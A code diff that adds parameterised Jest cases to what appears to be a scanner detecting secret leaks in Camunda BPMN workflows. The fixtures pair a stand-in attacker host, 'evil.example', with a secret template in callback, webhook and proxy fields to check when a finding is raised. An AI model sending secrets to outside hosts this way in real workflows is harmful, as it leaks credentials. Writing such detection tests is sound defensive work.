@@ -244,6 +244,21 @@ describe('of several URLs', () => {
     expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', body }))).toHaveLength(count);
   });
 
+  it.each([
+    [{ 'body.callback.url': 'https://evil.example', 'body.callback.token': '{{secrets.KEY}}' }, 1],
+    [{ 'body.callback.url': 'https://evil.example', 'body.callback.with.token': '{{secrets.KEY}}' }, 1],
+    [{ 'body.callback.Target_URL': 'https://evil.example', body: '{{secrets.KEY}}' }, 1],
+    [{ body: '= { url: "https://evil.example" }', 'body.token': '{{secrets.KEY}}' }, 1],
+    [{ 'body.proxyUrl': '= region', 'body.token': '{{secrets.KEY}}' }, 1],
+    [{ webhookUrl: 'https://evil.example', 'body.token': '{{secrets.KEY}}' }, 1],
+    [{ 'body.callback.url': 'https://api.stripe.com/cb', 'body.callback.token': '{{secrets.KEY}}' }, 0],
+    [{ 'body.callback.curl': 'https://evil.example', 'body.callback.token': '{{secrets.KEY}}' }, 0],
+    [{ 'body.callback.url': 'https://evil.example', 'body.token': '{{secrets.KEY}}' }, 0],
+    [{ 'body.callback.url': 'https://evil.example', 'headers.X-Key': '{{secrets.KEY}}' }, 0],
+  ])('in Camunda targets with dots make one document: %j', (inputs, count) => {
+    expect(findingsIn('camunda', bpmn({ url: 'https://api.stripe.com', ...inputs }))).toHaveLength(count);
+  });
+
   it('a text with very many is not gone through for each reference', () => {
     const many = (count: number) =>
       `[${'{"url":"https://api.stripe.com/v1","key":"x"},'.repeat(count)}"{{secrets.KEY}}"]`;
